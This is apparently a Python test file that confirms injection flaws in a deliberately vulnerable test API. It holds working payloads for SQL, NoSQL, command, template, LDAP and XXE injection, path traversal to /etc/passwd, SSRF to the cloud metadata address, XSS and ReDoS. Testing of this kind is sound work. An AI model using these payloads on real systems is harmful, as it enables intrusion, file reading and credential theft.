"""How each injection of the API is shown: by what comes back, or by a true and a false condition."""

from collections.abc import Callable
from urllib.parse import quote

from tests.assets.targets.proofs.asking import Setting, grows, harmless, proves, told_apart

METADATA = "http://169.254.169.254/latest/meta-data/"
ENTITY = b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "file:///etc/passwd">]><c><name>&e;</name></c>'


def quoted(word: str) -> tuple[str, str, str]:
    """A plain word, and the same with a true and with a false condition."""
    return word, f"{word}' AND '1'='1", f"{word}' AND '1'='2"


@proves("api.sql.query")
def sql_query(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(
        lambda word: ask.get("/v1/products", params={"search": word}).text,
        "lamp",
        "lamp%' AND '%'='",
        "lamp%' AND '%'='x",
    )


@proves("api.sql.path")
def sql_path(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(lambda word: ask.get(f"/v1/products/{quote(word, safe='')}").text, *quoted("LAMP-1"))


@proves("api.sql.header")
def sql_header(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(lambda word: ask.get("/v1/stock", headers={"X-Warehouse": word}).text, *quoted("north"))


@proves("api.sql.cookie")
def sql_cookie(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(lambda word: ask.get("/v1/offers", headers={"Cookie": f"region={word}"}).text, *quoted("north"))


@proves("api.sql.body")
def sql_body(setting: Setting) -> bool:
    ask = setting.user("alice")
    return told_apart(lambda word: ask.post("/v1/orders/search", json={"status": word}).text, *quoted("paid"))


@proves("api.sql.sort")
def sql_sort(setting: Setting) -> bool:
    ask = setting.user("alice")
    conditions = [f"(CASE WHEN {condition} THEN id ELSE -id END)" for condition in ("1=1", "1=2")]
    return told_apart(lambda word: ask.get("/v1/orders", params={"sort": word}).text, "id", *conditions)


@proves("api.sql.graphql")
def sql_graphql(setting: Setting) -> bool:
    ask = setting.user("alice")

    def search(word: str) -> str:
        return ask.post("/graphql", json={"query": f'{{ products(search: "{word}") {{ sku }} }}'}).text

    return told_apart(search, "lamp", "lamp%' AND '%'='", "lamp%' AND '%'='x")


@harmless("GET /v1/products/suggest is not told apart; GET /v1/products/today changes by itself")
def bound_search(setting: Setting) -> bool:
    ask = setting.nobody()
    changes = len({ask.get("/v1/products/today").text for _ in range(3)}) == 3
    return changes and not told_apart(
        lambda word: ask.get("/v1/products/suggest", params={"begin": word}).text, *quoted("Oak")
    )


@proves("api.nosql.legacy-login")
def nosql_login(setting: Setting) -> bool:
    answer = setting.nobody().post("/v1/auth/legacy-login", json={"username": "alice", "password": {"$ne": ""}})
    return (
        answer.status_code == 200
        and setting.with_token(answer.json()["access_token"]).get("/v1/me").json()["username"] == "alice"
    )


@proves("api.nosql.warranty")
def nosql_query(setting: Setting) -> bool:
    return "SN-1002" in setting.nobody().get("/v1/warranty?serial[$ne]=SN-1001").text


@proves("api.command.ping")
def command(setting: Setting) -> bool:
    return "7000007" in setting.user("alice").post("/v1/tools/ping", json={"host": "x; echo $((1000001*7))"}).text


@proves("api.command.known-host")
def blind_command(setting: Setting) -> bool:
    ask = setting.user("alice")
    return told_apart(
        lambda word: ask.get("/v1/tools/known-host", params={"host": word}).text, "localhost", "x; true", "x; false"
    )


@proves("api.template.notice")
def template(setting: Setting) -> bool:
    return "1337" in setting.user("alice").post("/v1/notices/preview", json={"text": "{{7*191}}"}).text


@proves("api.path.query")
def path_query(setting: Setting) -> bool:
    return "root:" in setting.user("alice").get("/v1/documents", params={"name": "../" * 12 + "etc/passwd"}).text


@proves("api.path.segment")
def path_segment(setting: Setting) -> bool:
    return "root:" in setting.user("alice").get("/v1/manuals/" + "..%2f" * 12 + "etc%2fpasswd").text


@proves("api.xxe.import")
def xxe(setting: Setting) -> bool:
    return (
        "root:"
        in setting.user("alice").post("/v1/imports", content=ENTITY, headers={"Content-Type": "application/xml"}).text
    )


@harmless("the tools do their work for honest input")
def tools_work(setting: Setting) -> bool:
    alice = setting.user("alice")
    checks: list[Callable[[], bool]] = [
        lambda: alice.post("/v1/imports", content=b"<c><name>Ada</name></c>").json() == {"names": ["Ada"]},
        lambda: alice.post("/v1/tools/ping", json={"host": "localhost"}).json() == {"output": "probing localhost\n"},
        lambda: alice.get("/v1/documents").text == "This is terms.txt\n" == alice.get("/v1/manuals/terms.txt").text,
        lambda: alice.post("/v1/notices/preview", json={"text": "Dear {{ name }}"}).text == "Dear reader",
        lambda: alice.post("/v1/addresses/check", json={"email": "ada@shop.test"}).json() == {"ours": True},
        lambda: alice.get("/v1/directory").json() == [{"name": "Ada", "office": "North 4"}],
        lambda: alice.post("/v1/avatars/import", json={"url": METADATA}).status_code == 422,
        lambda: "<b>" not in alice.get("/v1/farewell?name=<b>").text,
    ]
    return all(check() for check in checks)


@proves("api.ssrf.body")
def ssrf_body(setting: Setting) -> bool:
    return "instance-id" in setting.user("alice").post("/v1/webhooks/test", json={"url": METADATA}).text


@proves("api.ssrf.query")
def ssrf_query(setting: Setting) -> bool:
    return "instance-id" in setting.user("alice").get("/v1/preview", params={"url": METADATA}).text


@proves("api.xss.greeting")
def xss(setting: Setting) -> bool:
    answer = setting.user("alice").get("/v1/greeting", params={"name": "<svg onload=x>"})
    return "<svg onload=x>" in answer.text and answer.headers["content-type"].startswith("text/html")


@proves("api.ldap.directory")
def ldap(setting: Setting) -> bool:
    ask = setting.user("alice")
    return told_apart(
        lambda word: ask.get("/v1/directory", params={"name": word}).text, "Ada", "*)(cn=Ad*", "*)(cn=Zz*"
    )


@proves("api.redos.address")
def redos(setting: Setting) -> bool:
    ask = setting.user("alice")
    return grows(lambda text: ask.post("/v1/addresses/check", json={"email": text}))
